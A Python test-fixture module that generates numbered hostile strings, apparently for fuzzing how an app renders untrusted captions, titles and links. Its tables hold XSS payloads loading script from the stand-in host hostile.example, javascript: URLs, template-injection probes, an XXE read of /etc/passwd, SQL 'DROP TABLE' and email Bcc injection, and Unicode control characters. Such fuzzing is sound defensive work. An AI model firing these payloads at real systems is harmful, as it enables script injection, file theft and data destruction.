"""Hostile captions, names, titles and links: the same ones for the same number, each unlike the others."""

import random
from collections.abc import Callable, Iterator

RAN = "hostileRan"
"""What every script of a hostile text would call, could it run."""
REACHED = "hostile.example"
"""The host that every hostile text would reach."""

_SCRIPTS = (
    f"<script>{RAN}()</script>",
    f"<ScRiPt src=//{REACHED}/x></sCrIpT>",
    f"<img src=x onerror={RAN}()>",
    f"<img src=https://{REACHED}/pixel>",
    f"<svg/onload={RAN}()>",
    f'"><script>{RAN}()</script>',
    f"'><img src=x onerror={RAN}()>",
    f'" autofocus onfocus={RAN}() x="',
    f"' onmouseover='{RAN}()",
    f"</title><script>{RAN}()</script>",
    f"</textarea></style></noscript><script>{RAN}()</script>",
    f"<!--><script>{RAN}()</script>-->",
    f"<![CDATA[<script>{RAN}()</script>]]>",
    f"<iframe srcdoc='<script>parent.{RAN}()</script>'></iframe>",
    f"<math><mtext><mglyph><style><img src=x onerror={RAN}()>",
    f'<meta http-equiv=refresh content="0;url=https://{REACHED}/">',
    f"<base href=//{REACHED}/>",
    f"<link rel=stylesheet href=//{REACHED}/x.css>",
    f"<form action=//{REACHED}/><button>press</button>",
    f"<style>@import '//{REACHED}/x.css';</style>",
    f"<details open ontoggle={RAN}()>",
    f"&lt;script&gt;{RAN}()&lt;/script&gt;",
    f"&#60;script&#62;{RAN}()&#x3c;/script&#x3e;",
    f"\\u003cscript\\u003e{RAN}()\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RAN}()+ADw-/script+AD4-",
    f"＜script＞{RAN}()＜/script＞",
)
_ADDRESSES = (
    f"javascript:{RAN}()",
    f"JaVaScRiPt:{RAN}()//",
    f"java\tscript:{RAN}()",
    f"java\nscript:{RAN}()",
    f" javascript:{RAN}()",
    f"&#106;avascript:{RAN}()",
    f"javascript&colon;{RAN}()",
    f"data:text/html,<script>{RAN}()</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RAN}()",
    f"//{REACHED}/",
    f"\\\\{REACHED}\\",
    f"https://www.tiktok.com@{REACHED}/@a/video/1",
    f"https://www.tiktok.com.{REACHED}/@a/video/1",
    f"https://{REACHED}/?a=b&c=d#e",
    "file:///etc/passwd",
    f"[press](javascript:{RAN}())",
    f"![seen](https://{REACHED}/pixel)",
    f"<https://{REACHED}/>",
    f"[a]: https://{REACHED}/\n[a]",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ config.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{unsubscribe}} {{{preferences}}}",
    "{{#if x}}{{/if}} {{> partial}}",
    "$title $advocate ${starts} $$",
    "%s %(title)s %n {0} {title!r}",
    "{# gone #}",
    "[[help]]",
    "\\{{ 7*7 }} {\u2060{ 7*7 }}",
)
_INJECTIONS = (
    "\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "\nEND:VEVENT\nBEGIN:VEVENT\nUID:hostile",
    "\r\nATTENDEE:mailto:hostile@hostile.example",
    "\\nATTACH:https://hostile.example/x\\;\\,",
    ';X-HOSTILE="1":2',
    "\r\nBcc: hostile@hostile.example",
    "\nContent-Type: text/html\n\n<b>hostile</b>",
    "=?utf-8?q?=0D=0ABcc:_hostile=40hostile.example?=",
    "\r\n.\r\nMAIL FROM:<hostile@hostile.example>",
    "]]></content><entry><id>hostile</id></entry><content>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '"},{"id":"hostile","content_html":"<b>"}',
    '\\"},"x":"</script>',
    "';DROP TABLE videos;--",
    "*/ } body { background: url(//hostile.example/x) } /*",
    "url(javascript:hostileRan()) expression(hostileRan())",
    '=HYPERLINK("https://hostile.example")',
    "\u2028hostileRan()\u2029",
    "\x85\x0b\x0c\x1c\x1d\x1e",
)
_CHARACTERS = (
    "\u202eeman\u202c",
    "\u202e",
    "\u2066\u2067\u2068",
    "\u2069\u2069\u2069",
    "\u200f\u200e\u061c",
    "\u202a" * 70,
    "\u200d" * 300,
    "\u200b\u200c\u2060\ufeff" * 60,
    "👩\u200d👩\u200d👧\u200d👦" * 40,
    "ه\u0651\u064b\u0650\u0652\u0670" * 30,
    "Z" + "\u0335\u0489\u0323\u0310" * 90,
    "\u0000null\u0000",
    "\x01\x02\x03\x07\x08\x1b[31mred\x1b[0m\x7f",
    "\ud800",
    "\udfff\ud83d",
    "\ufffe\uffff\ufdd0",
    "\U0010ffff\U000e0001\U000e0041\U000e007f",
    "\ue000\uf8ff",
    "﷽" * 60,
    "𒐫𒈙⸻꧅" * 20,
    "\u3164\u115f\u2800\u00a0\u00ad" * 30,
    "كلمة" * 120,
    "ﷺ\u0640" * 100,
    "\ufe0f\u20e3\U0001f3fb" * 40,
)


def hostile_texts(count: int, first: int = 0) -> Iterator[tuple[int, str]]:
    """Each with its number, by which it is found again: `planted17`."""
    for number in range(first, first + count):
        yield number, hostile_text(number)


def marker(number: int) -> str:
    """Stands in the text before anything hostile; where that cuts a text, this is left."""
    return f"planted{number}"


def hostile_text(number: int) -> str:
    chance = random.Random(number)
    fragments: tuple[Callable[[], str], ...] = (
        lambda: chance.choice(_SCRIPTS),
        lambda: chance.choice(_ADDRESSES),
        lambda: chance.choice(_TEMPLATES),
        lambda: chance.choice(_INJECTIONS),
        lambda: chance.choice(_CHARACTERS),
        lambda: _noise(chance),
    )
    # The first fragments are each of the known ones in turn, alone; then they are mixed.
    known = (*_SCRIPTS, *_ADDRESSES, *_TEMPLATES, *_INJECTIONS, *_CHARACTERS)
    if number < len(known):
        body = known[number]
    else:
        body = chance.choice(("", " ", "\n", "\t")).join(
            chance.choice(fragments)() for _ in range(chance.randint(1, 4))
        )
    if number % 23 == 0:
        body += chance.choice(("x", "ا", "\u0301", "W ", "<b>", "&")) * 2000
    return f"{marker(number)} {body}"


def _noise(chance: random.Random) -> str:
    """Characters of everywhere, surrogates and what no plane has named too."""
    ranges = ((0, 0x7F), (0x80, 0x2FF), (0x300, 0x36F), (0x600, 0x6FF), (0x2000, 0x206F), (0xD800, 0xE0FF))
    low, high = chance.choice((*ranges, (0x10000, 0x10FFFF)))
    return "".join(chr(chance.randint(low, high)) for _ in range(chance.randint(1, 60)))
